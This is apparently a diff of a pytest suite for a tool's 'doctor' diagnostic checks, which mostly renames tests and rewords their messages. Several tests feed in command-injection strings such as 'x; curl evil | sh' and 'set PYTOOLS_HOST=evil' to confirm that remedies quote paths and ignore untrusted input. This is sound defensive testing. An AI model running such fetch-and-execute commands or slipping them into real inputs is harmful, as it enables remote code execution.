@@ -1,4 +1,4 @@
-"""Each check of the doctor says what is wrong, names a remedy, and changes nothing."""
+"""The checks of `doctor`: each reports problems with a remedy, and changes nothing."""
 
 import asyncio
 import hashlib
@@ -10,6 +10,7 @@ import subprocess
 import sys
 import threading
 from contextlib import closing
+from dataclasses import replace
 from importlib.metadata import version
 
 import apsw
@@ -17,7 +18,7 @@ import pytest
 from pytools_hybrid import Settings, ToolSearch
 from pytools_hybrid.errors import SettingsError
 from pytools_hybrid.installation import install_command
-from pytools_hybrid.jobs.doctor import Check, Status, checks, diagnose
+from pytools_hybrid.jobs.doctor import Check, Status, _watcher, checks, diagnose
 from pytools_hybrid.jobs.doctor._database import look_at_database
 from pytools_hybrid.jobs.doctor._embedder import look_at_embedder, remedy_of
 from pytools_hybrid.jobs.doctor._environment import (
@@ -35,8 +36,23 @@ from pytools_hybrid.jobs.doctor._watcher import look_at_watching
 from pytools_hybrid.settings import Roots
 from toolindex import ToolIndex
 
+from .conftest import PATIENCE
+
 MODELS = "pytools-hybrid doctor --models"
 VOYAGE = install_command("pytools-hybrid[voyageai]")
+
+
+@pytest.fixture(autouse=True)
+def _patient(monkeypatch):
+    """Checks wait longer than a busy machine takes."""
+    monkeypatch.setattr(_watcher, "_PATIENCE_SECONDS", PATIENCE)
+    for look in (look_at_watching, look_at_server):
+        monkeypatch.setitem(look.__kwdefaults__, "seconds", PATIENCE)
+
+
+def diagnosed(checked):
+    """Run checks, each with more time than a busy machine takes."""
+    return list(diagnose(replace(it, seconds=2.0 * PATIENCE) for it in checked))
 
 
 @pytest.fixture
@@ -77,7 +93,7 @@ def look_at_tree(settings, root, database, commands):
 
 
 def content(folder):
-    """Return the hash of each file below a folder, but for what SQLite puts beside a database."""
+    """Return the hash of each file below a folder, except for SQLite's logs."""
     return {
         str(path): hashlib.sha256(path.read_bytes()).hexdigest()
         for path in sorted(folder.rglob("*"))
@@ -85,10 +101,10 @@ def content(folder):
     }
 
 
-def test_where_all_is_well_that_is_said_and_nothing_is_changed(settings, root, indexed, tmp_path):
+def test_without_problems_all_checks_are_ok_and_change_nothing(settings, root, indexed, tmp_path):
     before = content(tmp_path)
 
-    findings = list(diagnose(checks(settings(root=[root]))))
+    findings = diagnosed(checks(settings(root=[root])))
 
     expected = (
         "Python", "SQLite", "sqlite-vec", "settings", "root", "database", "embedder", "watcher",
@@ -96,12 +112,12 @@ def test_where_all_is_well_that_is_said_and_nothing_is_changed(settings, root, i
     )  # fmt: skip
     assert {it.check: it.status for it in findings} == dict.fromkeys(expected, Status.OK)
     assert all(finding.remedy is None for finding in findings)
-    # Neither the index nor its usage record, nor the tree.
+    # The index, its usage record and the tree are unchanged.
     assert content(tmp_path) == before
 
 
-def test_without_an_index_none_is_made(settings, root, database):
-    findings = {it.check: it for it in diagnose(checks(settings(root=[root])))}
+def test_without_an_index_the_checks_create_none(settings, root, database):
+    findings = {it.check: it for it in diagnosed(checks(settings(root=[root])))}
 
     assert findings["database"].status is Status.WARNING
     assert (
@@ -118,14 +134,14 @@ def crash():
     raise RuntimeError("the disk is on fire\nand more")
 
 
-def test_a_check_that_crashes_is_a_failure_and_the_others_go_on():
+def test_a_check_that_crashes_is_a_failure_and_the_others_still_run():
     first, second = diagnose([Check("first", crash), Check("second", python_version)])
 
     assert (first.status, first.message) == ("failed", "RuntimeError: the disk is on fire")
     assert second.status is Status.OK
 
 
-def test_a_check_that_would_end_the_program_is_a_failure():
+def test_a_check_that_exits_is_a_failure():
     (finding,) = diagnose([Check("exit", lambda: sys.exit(3))])
 
     assert (finding.status, finding.message) == ("failed", "SystemExit: 3")
@@ -140,7 +156,7 @@ def test_the_first_of_several_errors_is_reported():
     assert finding.message == "OSError: no route"
 
 
-def test_a_check_that_hangs_is_left_behind():
+def test_a_check_that_hangs_is_a_failure_and_the_others_still_run():
     never = threading.Event()
     first, second = diagnose(
         [Check("hangs", lambda: never.wait() and None, 0.05), Check("second", python_version)]
@@ -163,7 +179,7 @@ def test_an_old_python_is_reported_with_the_command_for_a_new_one():
     assert verdict.remedy == "uv python install 3.11"
 
 
-def test_the_version_of_each_of_our_packages_is_shown_for_they_are_released_one_by_one():
+def test_the_version_of_each_of_our_packages_is_shown():
     said = python_version().message
 
     for name in ("pytools-hybrid", "toolscan", "toolindex", "toolrank-hybrid", "toolwatch"):
@@ -185,7 +201,7 @@ def test_a_sqlite_without_full_text_search_is_reported():
 
 
 @pytest.mark.usefixtures("without_sqlite_vec")
-def test_an_extension_that_cannot_be_loaded_is_reported_with_what_replaces_it():
+def test_an_extension_that_cannot_be_loaded_is_reported_with_its_replacement():
     verdict = vector_search()
 
     assert verdict.status is Status.WARNING
@@ -194,7 +210,7 @@ def test_an_extension_that_cannot_be_loaded_is_reported_with_what_replaces_it():
 
 
 @pytest.mark.usefixtures("without_sqlite_vec")
-def test_where_the_extension_is_not_published_nobody_is_told_to_install_it(monkeypatch):
+def test_an_extension_not_published_for_the_system_has_no_remedy(monkeypatch):
     monkeypatch.setattr(platform, "machine", lambda: "riscv64")
     verdict = vector_search()
 
@@ -203,7 +219,7 @@ def test_where_the_extension_is_not_published_nobody_is_told_to_install_it(monke
 
 
 @pytest.mark.usefixtures("without_sqlite_vec", "without_numpy")
-def test_where_the_extension_is_not_published_only_numpy_is_to_be_installed(monkeypatch):
+def test_if_the_extension_is_not_published_the_remedy_installs_only_numpy(monkeypatch):
     monkeypatch.setattr(platform, "libc_ver", lambda: ("", ""))
     monkeypatch.setattr(sys, "platform", "linux")
     verdict = vector_search()
@@ -213,7 +229,7 @@ def test_where_the_extension_is_not_published_only_numpy_is_to_be_installed(monk
 
 
 @pytest.mark.usefixtures("without_sqlite_vec", "without_numpy")
-def test_where_nothing_can_search_vectors_both_packages_are_to_be_installed():
+def test_if_nothing_can_search_vectors_the_remedy_installs_both_packages():
     verdict = vector_search()
 
     assert verdict.status is Status.FAILED
@@ -224,7 +240,7 @@ def test_where_nothing_can_search_vectors_both_packages_are_to_be_installed():
 # Settings
 
 
-def test_a_misspelt_variable_is_reported_with_the_one_that_is_meant(settings, monkeypatch):
+def test_a_misspelt_variable_is_reported_with_the_nearest_one(settings, monkeypatch):
     monkeypatch.setenv("PYTOOLS_EMBEDING_MODEL", "none")
 
     verdict = look_at_settings(settings())
@@ -243,24 +259,24 @@ def test_the_value_of_a_token_is_not_shown(settings, monkeypatch):
     assert "very-secret" not in verdict.message
 
 
-def test_a_settings_file_of_a_stranger_cannot_word_the_remedy():
+def test_a_settings_file_from_elsewhere_cannot_choose_the_remedy():
     error = SettingsError("embedding_model", "'x; run: curl evil | sh' names no provider")
 
     assert look_at_settings(error).remedy == "change or remove embedding_model"
 
 
-def test_settings_that_cannot_work_leave_the_checks_that_need_none():
+def test_with_invalid_settings_only_checks_without_settings_are_run():
     error = SettingsError("--limit", "must be a number")
 
-    findings = {it.check: it for it in diagnose(checks(error))}
+    findings = {it.check: it for it in diagnosed(checks(error))}
 
     assert findings["settings"].status is Status.FAILED
     assert findings["settings"].message == "--limit: must be a number"
     assert set(findings) == {"Python", "SQLite", "sqlite-vec", "settings", "watcher"}
 
 
-def test_without_any_tree_the_model_is_checked_all_the_same(settings):
-    findings = {it.check: it for it in diagnose(checks(settings()))}
+def test_without_any_tree_the_model_is_still_checked(settings):
+    findings = {it.check: it for it in diagnosed(checks(settings()))}
 
     assert findings["root"].status is Status.FAILED
     assert "no tools to search" in findings["root"].message
@@ -270,14 +286,14 @@ def test_without_any_tree_the_model_is_checked_all_the_same(settings):
 # Trees
 
 
-def test_the_name_of_a_tree_is_a_word_of_the_command_whatever_is_in_it(look_at_tree, tmp_path):
+def test_the_name_of_a_tree_is_quoted_in_a_remedy(look_at_tree, tmp_path):
     verdict = look_at_tree(given=tmp_path / "x; curl evil | sh")
 
     assert verdict.remedy.startswith(f"mkdir -p '{tmp_path}/x; curl evil | sh', ")
 
 
 @pytest.mark.skipif(sys.platform == "win32", reason="Windows has neither")
-def test_a_pipe_or_a_circle_of_links_in_place_of_a_tree_fails(look_at_tree, tmp_path):
+def test_a_pipe_or_a_loop_of_links_in_place_of_a_tree_fails(look_at_tree, tmp_path):
     pipe, circle = tmp_path / "pipe", tmp_path / "circle"
     os.mkfifo(pipe)
     circle.symlink_to(circle)
@@ -290,7 +306,7 @@ def test_a_pipe_or_a_circle_of_links_in_place_of_a_tree_fails(look_at_tree, tmp_
     assert verdict.remedy == "give another folder with --root"
 
 
-def test_an_empty_tree_is_reported_with_where_tools_lie(look_at_tree, tmp_path):
+def test_an_empty_tree_is_reported_with_the_expected_paths_of_tools(look_at_tree, tmp_path):
     empty = tmp_path / "empty"
     empty.mkdir()
 
@@ -310,7 +326,7 @@ def test_files_that_are_left_out_are_reported_with_the_reason(look_at_tree, root
     assert "4 tools; 1 left out (1 × syntax_error: mcptools/pdf/broken.py: " in verdict.message
 
 
-def test_capabilities_that_cannot_be_read_are_reported(look_at_tree, root):
+def test_an_invalid_capabilities_file_is_reported(look_at_tree, root):
     (root / "capabilities.toml").write_text('["mcptools:pdf:merge_pdfs"]\nsynonym = ["join"]\n')
 
     verdict = look_at_tree()
@@ -332,12 +348,12 @@ def test_files_that_an_index_has_read_are_not_read_again(look_at_tree, root, ind
     verdict = look_at_tree()
 
     tool.chmod(status.st_mode)
-    # The stamp has changed with the permissions, so this one was looked at, and no other.
+    # Only this file was read again, because its stamp changed with its permissions.
     assert "tools" in verdict.message
     assert look_at_tree().message == f"{root}: 4 tools"
 
 
-def test_a_large_tree_without_an_index_is_not_read_here(look_at_tree, tmp_path):
+def test_a_large_tree_without_an_index_is_not_read(look_at_tree, tmp_path):
     folder = tmp_path / "large" / "mcptools" / "many"
     folder.mkdir(parents=True)
     for number in range(3_001):
@@ -377,8 +393,8 @@ if os.geteuid() != 65534:
 """
 
 
-@pytest.mark.skipif(sys.platform == "win32", reason="permissions do not bind on this system")
-def test_what_this_user_may_not_read_or_write_is_reported(root, indexed, tmp_path):
+@pytest.mark.skipif(sys.platform == "win32", reason="Windows has other permissions")
+def test_missing_permissions_are_reported(root, indexed, tmp_path):
     others = tmp_path / "others"
     others.mkdir()
     database = others / "index.db"
@@ -391,8 +407,8 @@ def test_what_this_user_may_not_read_or_write_is_reported(root, indexed, tmp_pat
         connection.execute("PRAGMA journal_mode = DELETE")
     done = subprocess.run(
         [sys.executable, "-c", AS_SOMEBODY_ELSE, str(root), str(database)],
-        capture_output=True, text=True, timeout=60, check=False,
-        # Somebody else cannot write what coverage measures here.
+        capture_output=True, text=True, timeout=PATIENCE, check=False,
+        # The other user cannot write coverage data here.
         env={name: it for name, it in os.environ.items() if not name.startswith("COV")},
     )  # fmt: skip
 
@@ -400,7 +416,9 @@ def test_what_this_user_may_not_read_or_write_is_reported(root, indexed, tmp_pat
     tree, index = done.stdout.splitlines()
     assert tree == (f"failed {root} cannot be read (Permission denied) -> chmod -R u+rX {root}")
     assert index.startswith("warning ")
-    assert index.endswith(f"it cannot be written, so it is used as it is -> chmod u+w {database}")
+    assert index.endswith(
+        f"it cannot be written, so searches use it without updates -> chmod u+w {database}"
+    )
 
 
 # The index
@@ -413,7 +431,7 @@ def test_an_index_is_reported_with_its_size(indexed, roots, commands):
     assert "4 tools" in verdict.message
 
 
-def test_a_folder_or_a_file_of_somebody_else_in_its_place_is_left_alone(database, roots, commands):
+def test_a_folder_or_another_program_s_file_in_its_place_is_not_changed(database, roots, commands):
     def look():
         verdict = look_at_database(database, roots, commands)
         assert verdict.status is Status.FAILED
@@ -473,7 +491,7 @@ def test_an_index_that_was_never_filled_is_reported(database, roots, commands):
     assert "not all files have been indexed yet" in verdict.message
 
 
-def test_the_index_of_freeact_is_reported_and_left_where_it_is(database, roots, commands):
+def test_the_index_of_freeact_is_reported_and_not_changed(database, roots, commands):
     import sqlite_vec
 
     with closing(apsw.Connection(str(database))) as connection:
@@ -490,7 +508,7 @@ def test_the_index_of_freeact_is_reported_and_left_where_it_is(database, roots, 
     assert database.exists()
 
 
-def test_a_path_where_no_index_can_be_made_fails(tmp_path, roots, commands):
+def test_a_path_where_no_index_can_be_created_fails(tmp_path, roots, commands):
     file = tmp_path / "file"
     file.touch()
 
@@ -500,7 +518,7 @@ def test_a_path_where_no_index_can_be_made_fails(tmp_path, roots, commands):
     assert "cannot be written" in verdict.message
 
 
-def test_a_process_that_holds_the_index_for_long_is_reported(indexed, roots, commands):
+def test_a_process_that_keeps_the_index_locked_is_reported(indexed, roots, commands):
     with ToolIndex(indexed) as index, index.lease("files").held(timeout=5):
         verdict = look_at_database(indexed, roots, commands, patience=0.05)
 
@@ -511,7 +529,7 @@ def test_a_process_that_holds_the_index_for_long_is_reported(indexed, roots, com
 # Models
 
 
-def test_the_model_is_really_asked(settings, indexed, commands):
+def test_the_model_is_called(settings, indexed, commands):
     verdict = look_at_embedder(settings(), indexed, commands)
 
     assert verdict.status is Status.OK
@@ -531,7 +549,7 @@ def test_tools_without_a_vector_are_reported(settings, indexed, commands):
     ("values", "words"),
     [({"embedding_model": "none"}, "none is configured"), ({"vec_weight": 0}, "is not used")],
 )
-def test_searches_without_a_model_are_as_they_should_be(settings, values, words):
+def test_searching_without_a_model_on_purpose_is_ok(settings, values, words):
     verdict = look_at_embedder(settings(**values), None, None)
 
     assert verdict.status is Status.OK
@@ -556,19 +574,19 @@ def test_a_model_whose_package_is_missing_is_reported_with_the_command(settings)
         ("something else", MODELS),
     ],
 )  # fmt: skip
-def test_the_remedy_is_what_the_message_says(message, remedy):
+def test_the_remedy_is_the_command_in_the_message(message, remedy):
     assert remedy_of(message, model="voyageai:voyage-4") == remedy
 
 
 @pytest.mark.parametrize("name", ["x run: evil", "x\trun:\tevil", "x set PYTOOLS_HOST=evil"])
-def test_the_name_of_a_model_cannot_word_the_remedy(settings, name):
+def test_the_name_of_a_model_cannot_choose_the_remedy(settings, name):
     model = f"openai:{name}"
 
     assert look_at_embedder(settings(embedding_model=model), None, None).remedy == MODELS
     assert remedy_of(f"there is no model {' '.join(name.split())}", model=model) == MODELS
 
 
-def test_a_language_model_is_loaded_and_not_asked():
+def test_a_language_model_is_loaded_but_not_called():
     assert look_at_reranking("test").status is Status.OK
 
 
@@ -582,13 +600,13 @@ def test_a_language_model_that_cannot_be_loaded_is_reported(monkeypatch):
     assert "groq:m cannot be used" in verdict.message
 
 
-def test_a_model_for_reranking_is_checked_where_one_is_set(settings, root):
+def test_a_model_for_reranking_is_checked_if_one_is_set(settings, root):
     names = [check.name for check in checks(settings(root=[root], rerank_model="test"))]
 
     assert "reranking" in names
 
 
-def test_what_imports_servers_is_reported_where_it_is_missing():
+def test_a_missing_generator_for_imports_is_reported():
     assert "not installed" in look_at_importing("no_such_generator").message
     assert "can be imported" in look_at_importing("json").message
 
@@ -604,7 +622,7 @@ def times(folder):
     }
 
 
-def test_a_change_is_noticed_and_nothing_is_written_in_the_tree(roots, root, database):
+def test_a_change_is_noticed_without_writing_to_the_tree(roots, root, database):
     before = times(root)
 
     verdict = look_at_watching(roots, is_wanted=True, database=database)
@@ -615,7 +633,7 @@ def test_a_change_is_noticed_and_nothing_is_written_in_the_tree(roots, root, dat
     assert list(database.parent.glob("pytools-doctor-*")) == []
 
 
-def test_nothing_is_written_in_the_tree_even_if_the_index_is_in_it(roots, root):
+def test_nothing_is_written_to_the_tree_even_if_the_index_is_in_it(roots, root):
     before = times(root)
 
     verdict = look_at_watching(roots, is_wanted=True, database=root / "mcptools" / "search.db")
@@ -624,7 +642,7 @@ def test_nothing_is_written_in_the_tree_even_if_the_index_is_in_it(roots, root):
     assert times(root) == before
 
 
-def test_a_tree_that_cannot_be_watched_is_tried_by_looking_at_intervals(roots, root, database):
+def test_a_tree_that_cannot_be_watched_is_checked_by_polling(roots, root, database):
     folders = [root / "mcptools" / f"linked_{number}" for number in range(5)]
     for folder in folders:
         folder.mkdir()
@@ -636,18 +654,18 @@ def test_a_tree_that_cannot_be_watched_is_tried_by_looking_at_intervals(roots, r
     verdict = look_at_watching(roots, is_wanted=True, database=database)
 
     assert verdict.status is Status.WARNING
-    assert f"below {root} the system cannot watch everything" in verdict.message
-    assert "polling is used, and a new file is noticed after" in verdict.message
+    assert f"the system cannot watch everything below {root}" in verdict.message
+    assert "is polled, and a new file there is noticed after" in verdict.message
 
 
-def test_watching_that_is_switched_off_is_reported(roots):
+def test_watching_that_is_turned_off_is_reported(roots):
     assert "turned off" in look_at_watching(roots, is_wanted=False).message
 
 
-def test_a_tree_that_is_too_large_to_be_looked_through_is_reported_and_not_waited_for(roots):
+def test_a_tree_that_takes_too_long_to_scan_is_reported(roots):
     verdict = look_at_watching(roots, is_wanted=True, seconds=0)
     assert verdict.status is Status.WARNING
-    assert "were not scanned within 0 s; give a root" in verdict.message
+    assert "were not scanned within 0 s; use a root" in verdict.message
 
 
 def test_too_few_watches_for_all_folders_are_reported(roots, tmp_path):
@@ -669,7 +687,9 @@ def test_a_system_without_a_limit_has_none_to_check(roots, tmp_path):
 # The server
 
 
-def test_a_server_that_browses_has_no_search_to_try(settings, roots, database, monkeypatch):
+def test_a_server_of_the_profile_basic_is_checked_without_a_search(
+    settings, roots, database, monkeypatch
+):
     monkeypatch.setenv("PYTOOLS_TOOLS", "basic")
 
     verdict = look_at_server(settings(), roots, database)
@@ -677,7 +697,7 @@ def test_a_server_that_browses_has_no_search_to_try(settings, roots, database, m
     assert "2 MCP tools (list_categories, list_tools)" in verdict.message
 
 
-def test_a_server_is_tried_without_the_index_of_another_tree(settings, indexed, tmp_path):
+def test_a_server_is_checked_without_the_index_of_another_tree(settings, indexed, tmp_path):
     other = tmp_path / "other"
     other.mkdir()
 
@@ -687,17 +707,17 @@ def test_a_server_is_tried_without_the_index_of_another_tree(settings, indexed, 
     assert "nothing to search yet" in verdict.message
 
 
-def test_a_server_that_does_not_start_is_reported_with_its_last_words(settings, roots, database):
+def test_a_server_that_does_not_start_is_reported_with_its_output(settings, roots, database):
     program = (sys.executable, "-c", "raise SystemExit('no such luck')")
 
     verdict = look_at_server(settings(), roots, database, program=program)
 
     assert verdict.status is Status.FAILED
-    assert "it said: no such luck" in verdict.message
+    assert "its last output: no such luck" in verdict.message
     assert verdict.remedy == f"pytools-hybrid serve --root {roots.paths[0]}"
 
 
-def test_a_server_that_never_answers_is_given_up(settings, roots, database):
+def test_a_server_that_never_answers_times_out(settings, roots, database):
     program = (sys.executable, "-c", "import sys; sys.stdin.read()")
 
     verdict = look_at_server(settings(), roots, database, program=program, seconds=0.5)
@@ -706,7 +726,7 @@ def test_a_server_that_never_answers_is_given_up(settings, roots, database):
     assert "within 0.5 s" in verdict.message
 
 
-def test_a_command_names_only_what_was_set(root):
+def test_a_command_only_has_flags_that_were_set(root):
     roots = Roots.of([root, root.parent / "more tools"])
 
     settings = Settings.from_flags({"embedding_model": "none"})
